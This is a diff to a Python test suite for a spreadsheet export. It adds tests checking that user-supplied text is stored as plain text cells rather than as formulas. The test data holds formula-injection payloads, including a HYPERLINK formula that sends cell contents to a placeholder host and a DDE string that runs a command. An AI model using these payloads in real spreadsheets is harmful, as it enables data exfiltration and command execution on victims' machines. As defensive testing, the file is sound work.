@@ -197,7 +197,28 @@ def _variants() -> dict[str, Variant]:
         _set_convention("mkba"),
         _with(coaches, lambda d: d["case"].update(discounting="mkba")),
     )
+    # user text that a spreadsheet would read as formulas, and control characters openpyxl
+    # refuses: the workbook still writes and its own formulas still give the engine's figures
+    variants["injection.samenoud"] = Variant(_injected(), "base", "nl")
     return variants
+
+
+INJECTED = {
+    "title": '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    "stakeholder": "+cmd|' /C calc'!A0",
+    "outcome": "-2+3",
+    "pm": "@SUM(1,2)",
+}
+
+
+def _injected() -> dict[str, Any]:
+    data = _data("samenoud.yaml")
+    data["case"]["title"] = INJECTED["title"]
+    data["stakeholders"][0]["name"] = INJECTED["stakeholder"]
+    _outcome(data, "kostenverschuiving-wmo")["description"] = INJECTED["outcome"]
+    _outcome(data, "welbevinden")["description"] = INJECTED["pm"]
+    data["stakeholders"][1]["name"] = "Huis\x0carts\x07"
+    return data
 
 
 VARIANTS = _variants()
@@ -353,3 +374,31 @@ def test_workbook_takes_the_evaluations_scenario_when_no_row_is_given(tmp_path: 
         openpyxl.load_workbook(path), "nl", "uitgestelde-opname", text("xlsx.quantity", "nl")
     )
     assert cell.value == 0  # the scenario's override, not the base 2160
+
+
+def test_user_text_is_written_as_text_cells_never_as_formulas(tmp_path: Path) -> None:
+    path = tmp_path / "injected.xlsx"
+    _write(VARIANTS["injection.samenoud"], path)
+    wb = openpyxl.load_workbook(path)
+    inputs, _, results = (wb[n] for n in sheet_names("nl"))
+    texts = {
+        cell.value: cell
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+    for value in (INJECTED["title"], INJECTED["stakeholder"], INJECTED["outcome"], INJECTED["pm"]):
+        cell = texts[value]
+        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
+        assert cell.quotePrefix, cell.coordinate
+    # each sheet's title is the case title as text
+    for ws in (inputs, results):
+        assert ws["A1"].value == INJECTED["title"] and ws["A1"].data_type == "s"
+    # control characters are shown by name: form feed and BEL, which openpyxl refuses to write
+    assert texts["Huis\\x0carts\\x07"].data_type == "s"
+
+
+def test_workbook_with_injected_text_still_recalculates(recalculated: dict[str, Path]) -> None:
+    variant = VARIANTS["injection.samenoud"]
+    _check_against_engine(recalculated["injection.samenoud"], variant.lang, variant.expected())
